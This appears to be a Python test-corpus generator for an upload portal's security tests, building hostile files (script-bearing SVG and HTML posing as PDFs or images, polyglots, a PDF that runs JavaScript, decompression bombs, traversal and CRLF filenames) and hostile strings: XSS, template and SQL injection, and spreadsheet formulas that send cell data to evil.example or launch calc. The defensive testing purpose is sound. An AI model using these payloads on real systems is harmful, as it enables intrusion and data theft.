"""The hostile-input corpus: files and strings an attacker or a careless user might send.

Everything is generated in memory (the repository stays small). Run it as a script to
write the files out for a manual look::

    .venv/bin/python tests/competition/hostile/make_corpus.py /tmp/hostile

Each file carries what a safe portal must do with it: ``refuse`` (a clear message, no
row, no stored file) or ``neutralise`` (accepted as the harmless thing its bytes really
are, stored under an opaque name with a cleaned display name). ``either`` marks files
where both are acceptable; they must still never cause a server error.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

REFUSE = "refuse"
NEUTRALISE = "neutralise"
EITHER = "either"

TWO_MB = 2 * 1024 * 1024


@dataclass(frozen=True)
class HostileFile:
    id: str
    name: str
    data: bytes
    expect: str
    why: str


# --- building blocks -------------------------------------------------------------------


def pdf(
    *, pages: int = 1, extra_objects: str = "", catalog_extra: str = "", head: str = ""
) -> bytes:
    """A small, valid PDF written by hand, with a correct cross-reference table."""
    objects = []
    kids = " ".join(f"{3 + i} 0 R" for i in range(pages))
    objects.append(f"<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>")
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>")
    for _ in range(pages):
        objects.append("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    for extra in filter(None, extra_objects.split("\x00")):
        objects.append(extra)
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + head.encode())
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1"))
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *, idat: bytes | None = None, extra: bytes = b"") -> bytes:
    """A PNG (8-bit greyscale); ``idat`` overrides the real pixel data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    if idat is None:
        idat = zlib.compress(b"".join(b"\x00" + b"\x80" * width for _ in range(height)))
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + extra
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def jpeg(width: int = 16, height: int = 16, comment: bytes = b"") -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "JPEG", comment=comment)
    return buffer.getvalue()


def jpeg_with_dimensions(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header then claims other dimensions."""
    data = bytearray(jpeg())
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def image(fmt: str) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, fmt)
    return buffer.getvalue()


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password="rahasia", owner_password="rahasia", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
GIF += b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
JS_ACTION = "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"


def hostile_files() -> list[HostileFile]:
    """At least forty files, each with what the upload must do with it."""
    good_pdf = pdf()
    good_png = png(4, 4)
    good_jpeg = jpeg()
    files = [
        # Script posing as a document or a picture.
        HostileFile("html-as-pdf", "laporan.pdf", HTML, REFUSE, "HTML named .pdf"),
        HostileFile("html-as-jpg", "foto.jpg", HTML, REFUSE, "HTML named .jpg"),
        HostileFile("svg-as-png", "foto.png", SVG, REFUSE, "SVG with script named .png"),
        HostileFile("svg-as-pdf", "sk.pdf", SVG, REFUSE, "SVG with script named .pdf"),
        HostileFile("svg-named-svg", "gambar.svg", SVG, REFUSE, "SVG is not an accepted type"),
        HostileFile("js-as-pdf", "sk.pdf", b"alert(1);//%PDF-1.4", REFUSE, "script named .pdf"),
        HostileFile(
            "bom-then-pdf", "sk.pdf", b"\xef\xbb\xbf" + good_pdf, REFUSE, "magic not at offset 0"
        ),
        HostileFile(
            "html-then-pdf", "sk.pdf", HTML + good_pdf, REFUSE, "HTML first, PDF behind it"
        ),
        # Polyglots: one file, two readings.
        HostileFile(
            "pdf-html-polyglot",
            "sk.pdf",
            pdf(head="<html><script>alert(1)</script></html>\n"),
            NEUTRALISE,
            "valid PDF carrying HTML; stored and served as PDF only",
        ),
        HostileFile(
            "pdf-html-polyglot-no-pages",
            "sk.pdf",
            b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n",
            REFUSE,
            "PDF magic, HTML body, no page",
        ),
        HostileFile(
            "gifar",
            "foto.jpg",
            GIF + zip_bytes({"A.class": b"\xca\xfe\xba\xbe"}),
            REFUSE,
            "GIF+JAR",
        ),
        HostileFile(
            "jpeg-zip-polyglot",
            "foto.jpg",
            good_jpeg + zip_bytes({"x.html": HTML}),
            EITHER,
            "real JPEG with a ZIP appended",
        ),
        HostileFile(
            "png-html-trailer",
            "foto.png",
            good_png + HTML,
            EITHER,
            "real PNG with HTML after IEND",
        ),
        HostileFile(
            "png-html-text-chunk",
            "foto.png",
            png(4, 4, extra=png_chunk(b"tEXt", b"Comment\x00" + HTML)),
            NEUTRALISE,
            "HTML inside a PNG text chunk",
        ),
        HostileFile(
            "jpeg-script-comment",
            "foto.jpg",
            jpeg(comment=HTML),
            NEUTRALISE,
            "HTML inside a JPEG comment",
        ),
        HostileFile(
            "pdf-javascript",
            "sk.pdf",
            pdf(catalog_extra="/OpenAction 4 0 R ", extra_objects=JS_ACTION),
            REFUSE,
            "PDF that runs JavaScript when opened",
        ),
        # Truncated and malformed documents and images.
        HostileFile("pdf-truncated", "sk.pdf", good_pdf[: len(good_pdf) // 3], REFUSE, "cut"),
        HostileFile("pdf-header-only", "sk.pdf", b"%PDF-1.7\n", REFUSE, "header and nothing"),
        HostileFile(
            "pdf-garbage-body", "sk.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 40, REFUSE, "noise"
        ),
        HostileFile("pdf-no-pages", "sk.pdf", pdf(pages=0), REFUSE, "valid PDF with no page"),
        HostileFile("pdf-encrypted", "sk.pdf", encrypted_pdf(), REFUSE, "needs a password"),
        HostileFile(
            "pdf-deep-nesting",
            "sk.pdf",
            b"%PDF-1.4\n1 0 obj\n" + b"[" * 50_000 + b"]" * 50_000 + b"\nendobj\n%%EOF\n",
            REFUSE,
            "recursion bomb",
        ),
        HostileFile(
            "pdf-huge-count",
            "sk.pdf",
            good_pdf.replace(b"/Count 1", b"/Count 999999999"),
            EITHER,
            "page tree lies about its size",
        ),
        HostileFile("png-truncated", "foto.png", good_png[:40], REFUSE, "IHDR and nothing"),
        HostileFile(
            "png-bad-crc",
            "foto.png",
            good_png[:29] + b"\x00\x00\x00\x00" + good_png[33:],
            REFUSE,
            "IHDR checksum wrong",
        ),
        HostileFile("png-zero-size", "foto.png", png(0, 0, idat=zlib.compress(b"")), REFUSE, "0x0"),
        HostileFile("jpeg-truncated", "foto.jpg", good_jpeg[: len(good_jpeg) // 2], REFUSE, "cut"),
        HostileFile("jpeg-magic-only", "foto.jpg", b"\xff\xd8\xff\xe0", REFUSE, "magic only"),
        # Decompression bombs and absurd dimensions.
        HostileFile(
            "png-bomb-huge-ihdr",
            "foto.png",
            png(100_000, 100_000, idat=zlib.compress(b"\x00" * 1024)),
            REFUSE,
            "10 gigapixels claimed, 1 KB of data",
        ),
        HostileFile(
            "png-long-strip",
            "foto.png",
            png(50_000_000, 1, idat=zlib.compress(b"\x00" * 1024)),
            REFUSE,
            "50 megapixels in one row",
        ),
        HostileFile(
            "png-deflate-bomb",
            "foto.png",
            png(64, 64, idat=zlib.compress(b"\x00" * (64 * 1024 * 1024), 9)),
            EITHER,
            "64 x 64 image whose data inflates to 64 MB",
        ),
        HostileFile(
            "jpeg-huge-sof",
            "foto.jpg",
            jpeg_with_dimensions(65_000, 65_000),
            REFUSE,
            "frame header claims 65000 x 65000",
        ),
        HostileFile(
            "zip-bomb-as-pdf",
            "sk.pdf",
            zip_bytes({"nol.bin": b"\x00" * (20 * 1024 * 1024)}),
            REFUSE,
            "deflate bomb named .pdf",
        ),
        HostileFile(
            "zip-named-zip",
            "lampiran.zip",
            zip_bytes({"sk.pdf": good_pdf}),
            REFUSE,
            "archives are not accepted",
        ),
        # Other formats wearing an accepted name.
        HostileFile("gif-as-jpg", "foto.jpg", GIF, REFUSE, "GIF is not accepted"),
        HostileFile("bmp-as-png", "foto.png", image("BMP"), REFUSE, "BMP"),
        HostileFile("tiff-as-jpg", "foto.jpg", image("TIFF"), REFUSE, "TIFF"),
        HostileFile("webp-as-png", "foto.png", image("WEBP"), REFUSE, "WebP"),
        HostileFile("exe-double-ext", "sk.pdf.exe", EXE, REFUSE, "a Windows program"),
        HostileFile("exe-as-pdf", "sk.exe.pdf", EXE, REFUSE, "a Windows program named .pdf"),
        HostileFile(
            "elf-as-pdf", "sk.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 60, REFUSE, "Linux program"
        ),
        # Empty and over-size.
        HostileFile("zero-bytes-pdf", "sk.pdf", b"", REFUSE, "empty file"),
        HostileFile("zero-bytes-png", "foto.png", b"", REFUSE, "empty file"),
        HostileFile(
            "oversize-pdf",
            "sk.pdf",
            good_pdf + b"%" + b"x" * TWO_MB,
            REFUSE,
            "2 MB + a little, limit 2 MB",
        ),
        # Names: path traversal, Unicode tricks, reserved names. The content is fine.
        HostileFile("name-traversal", "../../../../etc/passwd.pdf", good_pdf, NEUTRALISE, ".."),
        HostileFile(
            "name-windows-traversal",
            "..\\..\\Windows\\System32\\evil.pdf",
            good_pdf,
            NEUTRALISE,
            "backslashes",
        ),
        HostileFile("name-absolute", "/var/www/index.pdf", good_pdf, NEUTRALISE, "absolute path"),
        HostileFile(
            "name-rtl-override", "SK\u202efdp.exe", good_pdf, NEUTRALISE, "looks like exe.pdf"
        ),
        HostileFile("name-nul", "sk.pdf\x00.exe", good_pdf, NEUTRALISE, "NUL byte"),
        HostileFile(
            "name-crlf",
            "sk\r\nContent-Type: text/html\r\n.pdf",
            good_pdf,
            NEUTRALISE,
            "header injection",
        ),
        HostileFile("name-very-long", "a" * 400 + ".pdf", good_pdf, NEUTRALISE, "400 characters"),
        HostileFile("name-con", "CON.pdf", good_pdf, NEUTRALISE, "Windows reserved name"),
        HostileFile("name-lpt1", "LPT1.png", good_png, NEUTRALISE, "Windows reserved name"),
        HostileFile("name-dots-only", "...", good_pdf, NEUTRALISE, "no name at all"),
        HostileFile("name-empty", "", good_pdf, NEUTRALISE, "empty name"),
        HostileFile(
            "name-zero-width", "s\u200bk\u200d.p\u200bdf", good_pdf, NEUTRALISE, "zero-width"
        ),
        HostileFile(
            "name-html",
            '<img src=x onerror="alert(1)">.pdf',
            good_pdf,
            NEUTRALISE,
            "HTML in the name",
        ),
        HostileFile("name-quotes", 'a";filename="evil.html.pdf', good_pdf, NEUTRALISE, "quotes"),
        HostileFile("name-double-ext-pdf", "laporan.pdf.exe", good_pdf, NEUTRALISE, ".pdf.exe"),
        HostileFile("name-wrong-ext", "foto.png", good_pdf, NEUTRALISE, "PDF named .png"),
    ]
    return files


# --- strings ----------------------------------------------------------------------------

HOSTILE_STRINGS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    "'><svg/onload=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "</textarea><script>alert(1)</script>",
    '</title><script>alert("judul")</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7|add:7 }} {{ request.user.password }}",
    "{% debug %}",
    "{% load static %}{% include 'base.html' %}",
    "{{ settings.SECRET_KEY }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("https://evil.example?d="&A1,"Klik di sini")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "'; DROP TABLE competition_entry; --",
    "1' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)--",
    "%' UNION SELECT password FROM opd_user --",
    "Inovasi \u202eKLAPAT\u202c layanan",
    "\u202egnp.exe",
    "\u200b\u200c\u200d\ufeff",
    "Ino\u200bvasi tan\u200dpa spasi",
    "   ",
    "\t\n\r\n\t",
    "\u00a0\u2003\u3000",
    "Pelayanan " * 5000,
    "x" * 20000,
    "A\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 zalgo",
    "\U0001f4a9 Layanan \U0001f680 cepat \U0001f1ee\U0001f1e9",
    "Baris satu\r\nBaris dua\rBaris tiga\nBaris empat",
    "null",
    "None",
    "../../../../etc/passwd",
    "\\\\evil.example\\share\\x",
    "%00%0d%0aSet-Cookie: sessionid=curi",
]


def write_corpus(target: Path) -> None:
    target.mkdir(parents=True, exist_ok=True)
    for item in hostile_files():
        (target / f"{item.id}.bin").write_bytes(item.data)
    (target / "strings.txt").write_text(
        "\n".join(repr(s) for s in HOSTILE_STRINGS), encoding="utf-8"
    )


if __name__ == "__main__":
    write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"))
    print(f"{len(hostile_files())} files, {len(HOSTILE_STRINGS)} strings")
